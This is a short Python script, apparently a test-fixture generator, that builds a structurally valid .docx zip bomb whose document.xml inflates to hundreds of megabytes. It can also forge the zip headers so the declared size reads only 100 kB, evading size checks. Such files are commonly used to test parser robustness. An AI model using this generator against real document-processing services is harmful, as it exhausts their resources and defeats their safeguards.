"""Write a structurally valid .docx whose word/document.xml inflates to ~N MB (default 256).
--bzip2: compress document.xml with bzip2 (zip method 12: Python's zipfile reads it, ~100x smaller file).
--lie: also patch the zip headers so the declared uncompressed size is only 100 kB.
stdlib only, deterministic.  usage: python3 gen_bomb_docx.py OUT.docx [MB] [--lie] [--bzip2]
"""

import struct
import sys
import zipfile

CT = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>'
    "</Types>"
)
RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/>'
    "</Relationships>"
)
HEAD = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>'
)
PARA = "<w:p><w:r><w:t>bomb</w:t></w:r></w:p>"
TAIL = "</w:body></w:document>"
FIXED_TIME = (2024, 1, 1, 0, 0, 0)


def main(out: str, mb: float = 256, lie: bool = False, bz: bool = False) -> None:
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        for name, data in (("[Content_Types].xml", CT), ("_rels/.rels", RELS)):
            z.writestr(zipfile.ZipInfo(name, FIXED_TIME), data, zipfile.ZIP_DEFLATED)
        zi = zipfile.ZipInfo("word/document.xml", FIXED_TIME)
        zi.compress_type = zipfile.ZIP_BZIP2 if bz else zipfile.ZIP_DEFLATED
        chunk = (PARA * 1000).encode()
        n = int(mb * 1024 * 1024) // len(chunk)
        with z.open(zi, "w", force_zip64=False) as f:
            f.write(HEAD.encode())
            for _ in range(n):
                f.write(chunk)
            f.write(TAIL.encode())
    if lie:
        buf = bytearray(open(out, "rb").read())
        member = b"word/document.xml"
        c = buf.find(b"PK\x01\x02")  # central directory entries
        while c != -1:
            nlen = struct.unpack_from("<H", buf, c + 28)[0]
            if bytes(buf[c + 46 : c + 46 + nlen]) == member:
                struct.pack_into("<I", buf, c + 24, 100_000)
                local = struct.unpack_from("<I", buf, c + 42)[0]
                struct.pack_into("<I", buf, local + 22, 100_000)
            c = buf.find(b"PK\x01\x02", c + 4)
        open(out, "wb").write(bytes(buf))


if __name__ == "__main__":
    args = [a for a in sys.argv[1:] if not a.startswith("--")]
    main(
        args[0],
        float(args[1]) if len(args) > 1 else 256,
        "--lie" in sys.argv,
        "--bzip2" in sys.argv,
    )
